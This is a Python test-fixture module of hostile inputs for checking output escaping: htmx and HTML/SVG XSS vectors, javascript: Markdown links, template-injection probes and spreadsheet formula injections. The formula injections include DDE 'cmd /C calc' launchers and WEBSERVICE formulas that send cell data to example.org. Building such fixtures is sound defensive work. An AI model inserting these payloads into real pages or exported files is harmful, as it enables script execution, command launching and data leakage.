"""Hostile texts, written for these tests: markup, addresses, Markdown, directions, formulas."""

from itertools import product

HIT = "/en/about?hit"
"""Where htmx would go if a payload came to life: a page that anybody may read."""

_MARKUP = [
    '<div hx-post="{hit}" hx-trigger="load">x</div>',
    '<div hx-get="{hit}" hx-trigger="load" hx-target="body">x</div>',
    '<div data-hx-post="{hit}" data-hx-trigger="load">x</div>',
    "<div hx-post='{hit}' hx-trigger=load></div>",
    '<a hx-delete="{hit}" hx-trigger="intersect once">x</a>',
    '<span hx-on:load="window.__hit=1" hx-on::load="window.__hit=1">x</span>',
    '<form hx-put="{hit}" hx-trigger="every 1s"><input name="q"></form>',
    '"><div hx-post="{hit}" hx-trigger="load">',
    '\' hx-post="{hit}" hx-trigger="load" x=\'',
    '" hx-get="{hit}" hx-trigger="load" data-x="',
    "</textarea><div hx-post=\"{hit}\" hx-trigger='load'>",
    '</title><div hx-post="{hit}" hx-trigger="load">',
    '<hx-partial hx-target="#main"><p>x</p></hx-partial>',
    "<template hx type=\"partial\" hx-target='body'>x</template>",
    "<img src=x onerror=window.__hit=1>",
    '<img src="{hit}">',
    "<svg onload=window.__hit=1></svg>",
    '<svg><script href="{hit}"></script><use href="{hit}#x"/></svg>',
    '<math><mtext></mtext><mglyph><style><img src=x onerror="window.__hit=1"></style></mglyph></math>',
    "<script>window.__hit=1</script>",
    '<script src="{hit}"></script>',
    '<iframe srcdoc="<script>top.__hit=1</script>"></iframe>',
    '<iframe src="{hit}"></iframe>',
    '<object data="{hit}"></object><embed src="{hit}">',
    '<form action="//example.org/x"><button>Send</button></form>',
    '<input autofocus onfocus="window.__hit=1"><button formaction="{hit}" form="form">x</button>',
    '<meta http-equiv="refresh" content="0;url={hit}">',
    '<base href="//example.org/"><link rel="stylesheet" href="{hit}">',
    "<style>@import '{hit}'; body {{ display: none }}</style>",
    '<p style="background:url({hit})">x</p>',
    '<video poster="{hit}" autoplay><source src="{hit}" onerror="window.__hit=1"></video>',
    '<details open ontoggle="window.__hit=1"><summary>x</summary></details>',
    '<p id="main" name="form" class="skip-link" data-autosave="{hit}" data-focus>x</p>',
    '<a href="javascript:window.__hit=1" target="_blank">x</a>',
    "<!-- --><![CDATA[<b>]]><?php echo 1 ?>",
    '<noscript><p title="</noscript><img src=x onerror=window.__hit=1>"></noscript>',
]

_MARKDOWN = [
    "[x](javascript:window.__hit=1)",
    "[x](JaVaScRiPt:window.__hit=1)",
    "[x](java&#10;script:window.__hit=1)",
    "[x](&#106;avascript:window.__hit=1)",
    "[x](data:text/html,<script>parent.__hit=1</script>)",
    "[x](vbscript:x) [y](file:///etc/passwd) [z](//example.org)",
    "![x]({hit})",
    '![x](x" onerror="window.__hit=1)',
    '[x](https://example.org" hx-post="{hit}" hx-trigger="load)',
    '[x](https://example.org "t" hx-post={hit} onclick=1)',
    "[x](<https://example.org> onmouseover=window.__hit=1)",
    "<javascript:window.__hit=1>",
    "[r]: javascript:window.__hit=1\n[r]",
    '[r]: {hit} "x"\n![r]',
    '```html\n<div hx-post="{hit}" hx-trigger="load"></div>\n```',
    '    <div hx-post="{hit}" hx-trigger="load">',
    '`<img src=x onerror=window.__hit=1>`{{: hx-post="{hit}"}}',
    '> <div hx-post="{hit}" hx-trigger="load">',
    '# <img src=x onerror=window.__hit=1> {{#main hx-get="{hit}"}}',
    "- <svg onload=window.__hit=1>\n- <svg onload=window.__hit=1>",
    "**<img src=x onerror=window.__hit=1>**",
    "&lt;img src=x onerror=window.__hit=1&gt;",
    "\\<img src=x onerror=window.__hit=1>",
]

_ODD = [
    "\u202e<gpj.x\u202c \u2066\u2067\u2068 \u200f\u200e\u061c",
    "\ufeff\u200b\u2028\u2029\u0085\u00ad",
    "{{ 7*7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %>",
    "%(name)s %s {0} {name}",
    "&#x3c;img src=x onerror=window.__hit=1&#x3e;",
    "＜img src=x onerror=window.__hit=1＞",
]

PAYLOADS: tuple[str, ...] = (*(text.format(hit=HIT) for text in (*_MARKUP, *_MARKDOWN)), *_ODD)
"""Texts that must come out as the letters they are."""

ARABIC = "قالت اللجنة إن الشباب يحتاجون إلى مساحات آمنة"
EVERYTHING = "\n\n".join((ARABIC, *PAYLOADS, ARABIC))
"""All of them in one text, with Arabic around."""

_STARTS = ("=", "+", "-", "@", "|", "%", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠")
_BEFORE = (" =", "\u00a0=", "\u200b=", "\ufeff=", "\u202e=")
_FORMULAS = [
    'HYPERLINK("https://example.org/?"&A1,"open")',
    "cmd|' /C calc'!A0",
    'WEBSERVICE("https://example.org/"&A1)',
    'IMPORTXML("https://example.org","//a")',
    "1+1",
    "SUM(A1:A9)*مجموع",
    'DDE("cmd";"/C calc";"__DdeLink_60_870772294")',
    "'file:///etc/passwd'#$Sheet1.A1",
    'INDIRECT("A1")&"\n;,"',
    "A1",
    "",
]
FORMULAS: tuple[str, ...] = (
    *(f"{start}{formula}" for start, formula in product((*_STARTS, *_BEFORE), _FORMULAS)),
    "https://example.org/",
    "mailto:x@example.org",
    "internal:Sheet1!A1",
    "external:c:\\x.xlsx#Sheet1!A1",
    "ftp://example.org/x",
    "{=1+1}",
    'a,b;c\td"e"',
    '"=1+1"',
    "line\nbreak\r\nand\rmore",
    "'=1+1",
    "''=1+1",
    "-5",
    "+4 people",
    "1e5",
    "00012",
    "2026-03-31",
    "–5",
    "_x0041_",
    "_x000D_=1",
    "\x0b=1+1",
    "\x1f=1+1",
    "#REF!",
    "TRUE",
    "<b>&amp;</b>",
    "<r><t>x</t></r>",
    "<r><t>x</t></r></si><si><r><t>y</t></r>",
    "<r>&</r>",
)
"""Texts that a spreadsheet might read as something else than text."""
